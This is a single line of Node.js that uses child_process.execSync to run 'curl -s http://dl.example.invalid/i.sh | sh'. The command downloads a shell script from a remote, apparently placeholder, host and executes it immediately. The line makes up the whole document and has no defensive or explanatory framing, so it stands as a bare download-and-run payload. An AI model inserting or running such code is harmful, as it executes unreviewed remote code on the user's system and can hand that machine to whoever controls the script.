const cp = require('child_process'); const run = cp.execSync.bind(cp); run('curl -s http://dl.example.invalid/i.sh | sh');
